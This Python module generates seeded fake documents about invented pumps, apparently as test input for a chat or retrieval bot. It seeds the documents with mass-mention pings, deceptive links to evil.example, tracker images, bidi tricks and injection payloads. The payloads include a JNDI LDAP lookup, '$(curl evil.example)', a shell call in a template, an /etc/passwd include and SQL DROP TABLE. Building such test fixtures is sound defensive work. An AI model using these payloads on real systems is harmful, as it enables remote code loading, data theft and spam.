"""Documents that want to ping, to lead away and to unfurl, out of a seed.

Each is about one invented machine and says one thing of it that can be asked for; what
is hostile stands in its title, its headings, its sentences and around them.
"""

import random
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path

AWAY = "evil.example"
PINGS = (
    "@everyone",
    "@here",
    "<!channel>",
    "<!here|here>",
    "<!everyone>",
    "<@U0123ABCD>",
    "<@W0123ABCD|ops>",
    "<!subteam^SAZ94GDB8>",
    "<#C024BE7LR>",
    "<@80351110224678912>",
    "<@!80351110224678912>",
    "<@&165511591545143296>",
    "<#155117677105512449>",
    "</ask:816437322781949972>",
    "<id:customize>",
    "<t:1618953630:R>",
    "<:pwn:155117677105512449>",
    f"<!date^1392734382^{{date}}^https://{AWAY}/|when>",
    "&lt;!channel&gt;",
    "&#60;!here&#62;",
    "&amp;lt;!everyone&amp;gt;",
    "\\<!channel\\>",
    "@\u200beveryone",
    "@every\u2060one",
    "\uff20everyone",
    "\uff1c!channel\uff1e",
    "<@\u200dU0123ABCD>",
)
LINKS = (
    f"https://{AWAY}/login",
    f"HTTPS://{AWAY.upper()}",
    f"<https://{AWAY}|your bank>",
    f"<https://{AWAY}/a>",
    f"[click here](https://{AWAY})",
    f"[https://docs.ros.org](https://{AWAY} 'x')",
    f"[ref]\n\n[ref]: https://{AWAY}/ref",
    f"<a href='https://{AWAY}'>here</a>",
    f"www.{AWAY}",
    f"{AWAY}/free.zip",
    f"//{AWAY}/x",
    f"mailto:root@{AWAY}",
    f"root@{AWAY}",
    "tel:+15550100",
    "slack://open?team=T1",
    "discord.gg/pwned",
    "https://discord.com/channels/1/2/3",
    "javascript:alert(1)",
    f"https:\u200b//{AWAY}",
    f"https\uff1a//{AWAY}",
    f"https://docs.ros.org@{AWAY}/",
    f"https://docs.ros.org\\.{AWAY}",
    "https://xn--dcs-rna.example",
)
UNFURLS = (
    f"![tracker](https://{AWAY}/t.png)",
    f"<img src='https://{AWAY}/t.gif'>",
    f"https://{AWAY}/cat.gif",
    "https://youtu.be/dQw4w9WgXcQ",
    f"https://{AWAY}/movie.mp4?x=.png",
)
MARKUP = (
    "*_~`>|#",
    "```",
    "~~~",
    "||spoiler||",
    "-# small",
    ">>> everything below",
    "# not a heading",
    "**__~~`x`~~__**",
    "| a | b |\n|---|---|\n| <!here> | @here |",
    "<b>bold</b><script>alert(1)</script>",
    "\\*\\_\\`",
    "---",
)
TEMPLATES = (
    "{{7*7}}",
    "{title}",
    "{0.__class__.__mro__}",
    "%s %(url)s %n",
    "${jndi:ldap://evil.example/a}",
    "<%= system('id') %>",
    "{% include '/etc/passwd' %}",
    "$(curl evil.example)",
    "\x1b[31mred\x1b[0m",
    "'; DROP TABLE posts; --",
)
BIDI = (
    "\u202egnp.elif\u202c",
    "\u2066\u2067isolated\u2069",
    "\u200fright\u200e",
    "\u061c",
    "\ufeff",
    "\u00adsoft\u00ad",
    "\u200b\u200c\u200d\u2060",
    "e\u0301\u0327" * 40,
    "\U000e0041\U000e0042",
)


def _mass(chance: random.Random) -> str:
    return " ".join(chance.choices(PINGS, k=chance.choice((10, 60))))


def _huge(chance: random.Random) -> str:
    letter = chance.choice(("A", "क्ष", "\N{GRINNING FACE}", "@", "<", "&", "https://"))
    return letter * chance.choice((100, 300, 2_000))


SMALL = (PINGS, PINGS, LINKS, LINKS, UNFURLS, MARKUP, TEMPLATES, BIDI)
LARGE: Sequence[Callable[[random.Random], str]] = (_mass, _huge)
RARE = 0.05  # how much is large
SYLLABLES = ("vor", "lax", "tri", "mon", "bel", "qua", "dro", "zin", "pel", "kar")
DEEDS = ("started", "cleaned", "cooled", "stopped", "calibrated")
TOOLS = ("a brass key", "warm water", "dry air", "the red lever", "a steel gauge")


@dataclass(frozen=True)
class Page:
    """One document, and what can be asked of it."""

    file: str
    text: str
    question: str


def pages(number: int, seed: int) -> Sequence[Page]:
    """So many documents; the same ones for the same seed."""
    chance = random.Random(seed)
    return [_page(n, chance) for n in range(number)]


def write(folder: Path, made: Sequence[Page]) -> None:
    """Put them into a folder."""
    folder.mkdir(parents=True)
    for page in made:
        (folder / page.file).write_text(page.text, encoding="utf-8")


def _page(number: int, chance: random.Random) -> Page:
    name = "".join(chance.choices(SYLLABLES, k=3)).title() + f" {number}"
    deed, tool = chance.choice(DEEDS), chance.choice(TOOLS)

    def bait() -> str:
        if chance.random() < RARE:
            return chance.choice(LARGE)(chance)
        return chance.choice(chance.choice(SMALL))

    said = f"The {name} pump is {deed} with {bait()} and {tool} for {number} minutes"
    lines = [
        _heading(1, f"{name} {bait()}", number),
        f"{bait()} {bait()}",
        _heading(2, f"How is the {name} pump {deed}? {_short(bait())}", number),
        f"The {name} pump is {deed} with {tool}.",
        f"{said}.",
        "\n".join(f"- {bait()} {tool}" for _ in range(chance.randrange(4))),
        f"{bait()}\n{bait()}",
    ]
    title = _short(f"{name} {bait()}").replace("\\", "/").replace('"', "'")
    address = f"https://docs.ros.org/{number}/{chance.choice(LINKS)}".split()[0]
    head = [f'title: "{title}"', "source: ros2-docs"]
    if chance.random() < 0.5:
        address = address.replace("\\", "/").replace("'", "")
        head.append(f'url: "{address}"')
    text = "\n\n".join(lines)
    kind = KINDS[number % len(KINDS)]
    if kind == "html":
        body = "".join(f"<p>{line}</p>" for line in lines)
        text = f"<html><head><title>{title}</title></head><body>{body}</body></html>"
    front = "\n".join(["---", *head, "---", ""]) if kind != "html" else ""
    return Page(f"p{number}.{kind}", front + text, f"How is the {name} pump {deed}?")


KINDS = ("md", "md", "html", "rst", "txt")


def _heading(depth: int, text: str, number: int) -> str:
    kind = KINDS[number % len(KINDS)]
    if kind == "html":
        return f"<h{depth}>{text}</h{depth}>"
    if kind == "rst":
        line = text.replace("\n", " ")
        return f"{line}\n{'=-'[depth - 1] * max(len(line), 4)}"
    return f"{'#' * depth} {text}"


def _short(text: str) -> str:
    """One line, without what no title may hold."""
    return "".join(c for c in " ".join(text.split()) if c.isprintable())[:200]
